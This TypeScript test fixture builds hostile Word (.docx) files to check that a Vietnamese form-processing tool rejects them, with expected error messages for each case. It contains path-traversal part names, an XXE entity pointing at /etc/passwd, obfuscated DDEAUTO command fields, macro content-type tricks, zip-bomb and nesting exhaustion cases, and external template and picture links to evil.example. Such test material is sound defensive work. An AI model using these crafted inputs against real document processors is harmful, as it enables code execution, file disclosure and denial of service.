/** Word files that somebody made to do harm, as forms and references: each with what is said of it, or null if it is filled in. */
import { strFromU8, unzipSync, zipSync } from 'fflate';
import { withParts } from '../word-files.js';

const document = 'word/document.xml';
const types = '[Content_Types].xml';
const mainType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const relations = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const mark = paragraph('{{trích yếu}}');
const field = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const instruction = (text: string): string => `<w:r><w:instrText>${text}</w:instrText></w:r>`;

export interface HostileFile {
  readonly name: string;
  readonly make: (docx: Uint8Array) => Uint8Array;
  /** What is said of it as a form; null if it is filled in. */
  readonly form: RegExp | null;
  /** The same for a reference, whose styles alone are taken. */
  readonly reference: RegExp | null;
}

const broken = /không đọc được “[^”]+”/u;
const complex = /quá nhiều thành phần hoặc lồng quá sâu/u;
const unsafe = /tên không an toàn hoặc trùng nhau/u;
const noWord = /không phải tệp Word/u;
const macro = /có macro/u;
const both = (name: string, said: RegExp | null, make: HostileFile['make']): HostileFile => ({ name, make, form: said, reference: said });
const asForm = (name: string, said: RegExp, make: HostileFile['make']): HostileFile => ({ name, make, form: said, reference: null });

export const hostileFiles: readonly HostileFile[] = [
  both('a sound form', null, body(mark)),
  // Parts that are missing, twice there, or named to lead elsewhere
  both('no types', noWord, without(types)),
  both('no relations', broken, without('_rels/.rels')),
  both('no document', noWord, without(document)),
  both('a part above the package', unsafe, (docx) => withParts(docx, { '../EVIL.txt': 'x' })),
  both('a part far above', unsafe, (docx) => withParts(docx, { 'word/../../../EVIL.txt': 'x' })),
  both('a part of Windows', unsafe, (docx) => withParts(docx, { '..\\EVIL.txt': 'x' })),
  both('a part of the root', unsafe, (docx) => withParts(docx, { '/etc/evil': 'x' })),
  both('a part of a drive', unsafe, (docx) => withParts(docx, { 'c:evil.txt': 'x' })),
  both('two documents, alike but for their case', unsafe, (docx) => withParts(docx, { 'word/DOCUMENT.xml': '<a/>' })),
  both('two documents', unsafe, (docx) => renamed(withParts(docx, { 'word/documenu.xml': '<a/>' }), 'word/documenu.xml', document)),
  both('a part that names a prototype', unsafe, (docx) => renamed(withParts(docx, { __prot0__: 'x' }), '__prot0__', '__proto__')),
  both('a part that lies about its size', broken, (docx) =>
    lying(withParts(docx, { 'word/media/x.txt': noise(20_000) }), 'word/media/x.txt'),
  ),
  both('a part of 200 MB that says it has 3', broken, (docx) =>
    lying(
      withPart(docx, 'word/media/y.txt', () => new Uint8Array(200 * 1024 * 1024)),
      'word/media/y.txt',
      3 * 1024 * 1024,
    ),
  ),
  both('a zip that ends before its parts', /cắt cụt hoặc hỏng/u, (docx) => docx.slice(0, docx.length - 30)),
  both('parts that begin behind the end', broken, (docx) => misplaced(docx, document)),
  // XML that is none, or more than that
  both('NUL in a text', broken, body(`${mark}<w:p>\0</w:p>`)),
  both('NUL by reference', broken, body(`${mark}<w:p>&#0;</w:p>`)),
  both('half a letter by reference', broken, body(`${mark}<w:p>&#xD800;</w:p>`)),
  both('an end that nothing began', broken, body(`${mark}</w:p>`)),
  both('a beginning without an end', broken, body(`${mark}<w:p>`)),
  both('a comment without an end', broken, body(`${mark}<!-- `)),
  both('a value without an end', broken, body(`${mark}<w:p w:x="`)),
  both('an entity that nobody declared', broken, body(paragraph('&lol;'))),
  both('entities of entities', broken, prefixed(document, `<!DOCTYPE a [<!ENTITY b "${'x'.repeat(10)}"><!ENTITY c "&b;&b;&b;">]>`)),
  both('an entity that is a file', broken, prefixed(document, '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
  both('a DTD in its styles', broken, prefixed('word/styles.xml', '<!DOCTYPE a [<!ENTITY b "c">]>')),
  both('UTF-16', broken, (docx) => withPart(docx, document, (data) => Uint8Array.from(Buffer.from(`\ufeff${strFromU8(data)}`, 'utf16le')))),
  // What Word runs or fetches
  both('a macro of another name by its type', macro, typed('application/vnd.ms-office.vbaProject')),
  both('a macro whose type has a reference in it', macro, typed('application/vnd.ms-office.vb&#97;Project')),
  both(
    'a main part with macros whose type has a reference in it',
    macro,
    typed('application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
  ),
  both('a macro by its relation', macro, (docx) =>
    withParts(docx, {
      'word/_rels/x.xml.rels': relation('http://schemas.microsoft.com/office/2006/relationships/vb&#97;Project', 'x.bin'),
    }),
  ),
  asForm('a DDE field', /có trường DDE/u, body(`${mark}<w:p>${field('begin')}${instruction(' DDEAUTO cmd')}${field('end')}</w:p>`)),
  asForm(
    'a DDE field in pieces',
    /có trường DDE/u,
    body(`${mark}<w:p>${field('begin')}${instruction('DD')}${instruction('EAUTO cmd')}${field('end')}</w:p>`),
  ),
  asForm('a DDE field with a reference in it', /có trường DDE/u, body(`${mark}<w:p>${instruction('D&#68;EAUTO cmd')}</w:p>`)),
  asForm(
    'a DDE field in a field',
    /có trường DDE/u,
    body(`${mark}<w:p>${field('begin')}${instruction('IF ')}${field('begin')}${instruction('dde x')}${field('end')}${field('end')}</w:p>`),
  ),
  asForm('a simple DDE field', /có trường DDE/u, body(`${mark}<w:p><w:fldSimple w:instr="DDE&#65;UTO cmd"/></w:p>`)),
  asForm(
    'a DDE field whose name another field spells',
    /do trường khác ghép thành/u,
    body(
      `${mark}<w:p>${field('begin')}${field('begin')}${instruction(' QUOTE 68 68 69 ')}${field('end')}` +
        `${instruction(' cmd')}${field('end')}</w:p>`,
    ),
  ),
  asForm(
    'a DDE field whose name another field ends',
    /do trường khác ghép thành/u,
    body(
      `${mark}<w:p>${field('begin')}${instruction(' D')}${field('begin')}${instruction(' QUOTE 68 ')}${field('separate')}${field('end')}` +
        `${instruction(' cmd')}${field('end')}</w:p>`,
    ),
  ),
  both(
    'a formula of fields, and fields in what another gave',
    null,
    body(
      `${mark}<w:p>${field('begin')}${instruction(' =')}${field('begin')}${instruction('PAGE')}${field('end')}${field('end')}` +
        `${field('begin')}${instruction('TOC')}${field('separate')}${field('begin')}${instruction('PAGEREF a')}${field('end')}` +
        `${field('end')}</w:p>`,
    ),
  ),
  both(
    'a field that only speaks of it',
    null,
    body(`${mark}<w:p>${field('begin')}${instruction('HYPERLINK "http://a.vn/hidden DDE"')}${field('end')}</w:p>`),
  ),
  // What grows
  both('elements in elements', complex, body('<w:sdt><w:sdtContent>'.repeat(25_000) + mark + '</w:sdtContent></w:sdt>'.repeat(25_000))),
  both('tables in tables', complex, body('<w:tbl><w:tr><w:tc>'.repeat(200) + mark + '</w:tc></w:tr></w:tbl>'.repeat(200))),
  both('properties in properties of a style', complex, (docx) =>
    withParts(docx, {
      'word/styles.xml': (text) =>
        text.replace(
          '</w:styles>',
          `<w:style w:styleId="Z"><w:name w:val="Z"/>${'<w:pPr>'.repeat(50_000)}${'</w:pPr>'.repeat(50_000)}</w:style></w:styles>`,
        ),
    }),
  ),
  both('a million paragraphs', complex, body(mark + '<w:p/>'.repeat(1_000_000))),
  both('a thousand types of one part', null, (docx) =>
    withParts(docx, {
      [types]: (text) =>
        text.replace('</Types>', `${`<Override PartName="/${document}" ContentType="${mainType}"/>`.repeat(1000)}</Types>`),
    }),
  ),
  both(
    'twenty thousand loops',
    complex,
    body((paragraph('{{#nhiệm vụ}}') + paragraph('{{TT}}') + paragraph('{{/nhiệm vụ}}')).repeat(20_000)),
  ),
  asForm('loops without end in one line', complex, body(paragraph('{{#nhiệm vụ}}'.repeat(100_000)))),
  both('types of a hundred thousand parts', complex, (docx) =>
    withParts(docx, {
      [types]: (text) => text.replace('</Types>', `${'<Override PartName="/a.xml" ContentType="b"/>'.repeat(100_000)}</Types>`),
    }),
  ),
  asForm('loops in one line', /vòng lặp|lặp/u, body(paragraph('{{#nhiệm vụ}}'.repeat(1000)))),
  asForm('marks that nobody knows', /không hiểu/u, body(Array.from({ length: 300 }, (_, at) => paragraph(`{{xx${at}}}`)).join(''))),
  asForm('names of a program', /không hiểu/u, body(paragraph('{{__proto__}} {{constructor}} {{toString}}'))),
  asForm('braces without end', /không đủ đôi/u, body(paragraph('{'.repeat(1_000_000)))),
  { name: 'styles that rest on each other', form: /mẫu không có/u, reference: null, make: styles(3, (at) => (at + 1) % 3) },
  { name: 'styles that rest on each other in a row', form: /mẫu không có/u, reference: null, make: styles(3000, (at) => at - 1) },
];

function paragraph(text: string): string {
  return `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
}

/** Another body. */
function body(content: string): HostileFile['make'] {
  return (docx) =>
    withParts(docx, { [document]: `<?xml version="1.0" encoding="UTF-8"?><w:document ${word}><w:body>${content}</w:body></w:document>` });
}

function without(part: string): HostileFile['make'] {
  return (docx) => withParts(body(mark)(docx), { [part]: null });
}

function prefixed(part: string, prefix: string): HostileFile['make'] {
  return (docx) => withParts(docx, { [part]: (text) => text.replace(/(?<=\?>\s*)</u, `${prefix}<`) });
}

function typed(type: string): HostileFile['make'] {
  return (docx) =>
    withParts(docx, {
      'word/x.bin': 'x',
      [types]: (text) => text.replace('</Types>', `<Default Extension="bin" ContentType="${type}"/></Types>`),
    });
}

function relation(type: string, target: string, mode = ''): string {
  return `<Relationships ${relations}><Relationship Id="rId1" Type="${type}" Target="${target}"${mode}/></Relationships>`;
}

/** A form that Word fetches something for: allowed, and said. */
export const linkedForms: readonly (readonly [string, HostileFile['make']])[] = [
  [
    'a template elsewhere',
    (docx) =>
      withParts(body(mark)(docx), {
        'word/_rels/settings.xml.rels': relation(`${office}/attachedTemplate`, 'http://evil.example/x.dotm', ' TargetMode="External"'),
      }),
  ],
  ['a picture elsewhere', body(`${mark}<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/t.png&quot; \\d"/></w:p>`)],
  [
    'a text elsewhere',
    body(`${mark}<w:p>${field('begin')}${instruction('INCLUDE')}${instruction('TEXT "C:\\\\evil.example"')}${field('end')}</w:p>`),
  ],
];

function styles(count: number, basedOn: (at: number) => number): HostileFile['make'] {
  const made = Array.from(
    { length: count },
    (_, at) => `<w:style w:type="paragraph" w:styleId="C${at}"><w:name w:val="C${at}"/><w:basedOn w:val="C${basedOn(at)}"/></w:style>`,
  );
  return (docx) => withParts(docx, { 'word/styles.xml': (text) => text.replace('</w:styles>', `${made.join('')}</w:styles>`) });
}

function withPart(docx: Uint8Array, name: string, change: (data: Uint8Array) => Uint8Array): Uint8Array {
  const parts = unzipSync(docx);
  return zipSync({ ...parts, [name]: change(parts[name] ?? new Uint8Array()) });
}

/** Another name of the same length, which no library would write twice. */
function renamed(zip: Uint8Array, from: string, to: string): Uint8Array {
  const text = Buffer.from(zip).toString('latin1').replaceAll(from, to);
  return Uint8Array.from(Buffer.from(text, 'latin1'));
}

/** Another size of a part unpacked in the zip's directory. */
function lying(zip: Uint8Array, name: string, size = 10): Uint8Array {
  return withEntry(zip, name, (entry) => entry.writeUInt32LE(size, 24));
}

/** Another place of a part in the zip's directory. */
function misplaced(zip: Uint8Array, name: string): Uint8Array {
  return withEntry(zip, name, (entry) => entry.writeUInt32LE(0x7fffffff, 42));
}

function withEntry(zip: Uint8Array, name: string, change: (entry: Buffer) => void): Uint8Array {
  const copy = Buffer.from(zip);
  change(copy.subarray(copy.lastIndexOf(Buffer.from(name)) - 46));
  return Uint8Array.from(copy);
}

/** Text that packs badly, the same each time. */
function noise(length: number): string {
  let state = 1;
  return Array.from({ length }, () => {
    state = (state * 48271) % 2147483647;
    return String.fromCharCode(33 + (state % 90));
  }).join('');
}
